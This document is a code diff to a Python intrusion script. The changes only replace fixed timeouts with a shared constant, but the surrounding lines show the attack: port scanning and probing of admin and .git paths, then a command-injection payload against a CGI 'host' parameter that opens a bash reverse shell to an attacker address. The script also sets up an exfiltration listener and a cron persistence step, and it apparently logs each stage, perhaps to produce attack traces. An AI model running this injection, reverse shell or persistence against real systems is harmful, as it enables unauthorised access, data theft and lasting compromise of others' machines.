@@ -53,7 +53,7 @@ def scan():
     found = []
     for port in (21, 22, 23, 25, 80, 443, 3306, 8080):
         with socket.socket() as probe:
-            probe.settimeout(5)
+            probe.settimeout(terminal.TIMEOUT_S)
             if probe.connect_ex((TARGET, port)) == 0:
                 found.append(port)
     step("scan_ports", open_ports=found)
@@ -61,7 +61,7 @@ def scan():
     for path in ("/", "/admin/", "/phpmyadmin/", "/.git/config", "/cgi-bin/test.cgi",
                  "/cgi-bin/status.cgi"):
         try:
-            with urllib.request.urlopen(f"http://{TARGET}{path}", timeout=20) as answer:
+            with urllib.request.urlopen(f"http://{TARGET}{path}", timeout=terminal.TIMEOUT_S) as answer:
                 pages.append([path, answer.status])
         except urllib.error.HTTPError as error:
             pages.append([path, error.code])
@@ -72,7 +72,7 @@ def break_in(listener):
     payload = (f"127.0.0.1 80; bash -c 'bash -i >& /dev/tcp/{ATTACKER}/{SHELL_PORT} 0>&1'"
                " >/dev/null 2>&1 & true")
     url = f"http://{TARGET}/cgi-bin/status.cgi?host={urllib.parse.quote(payload, safe='')}"
-    sender = socket.create_connection((TARGET, 80), timeout=20)
+    sender = socket.create_connection((TARGET, 80), timeout=terminal.TIMEOUT_S)
     source_port = sender.getsockname()[1]
     sender.sendall(f"GET {url.removeprefix('http://' + TARGET)} HTTP/1.1\r\nHost: {TARGET}\r\n"
                    "Connection: close\r\n\r\n".encode())
@@ -160,7 +160,7 @@ def main():
     with socket.create_server((ATTACKER, SHELL_PORT)) as listener, \
             socket.create_server((ATTACKER, EXFILTRATION_PORT)) as exfiltration:
         for waiting in (listener, exfiltration):
-            waiting.settimeout(30)
+            waiting.settimeout(terminal.TIMEOUT_S)
         scan()
         shell = break_in(listener)
         upgrade(shell)
@@ -175,7 +175,7 @@ def main():
         shell.expect_end()
         step("logout", keystrokes=shell.sent)
     # cron looks for new files every minute.
-    step("persistence", fetched=cron_fetched.wait(timeout=90))
+    step("persistence", fetched=cron_fetched.wait(timeout=terminal.TIMEOUT_S))
 
 
 if __name__ == "__main__":
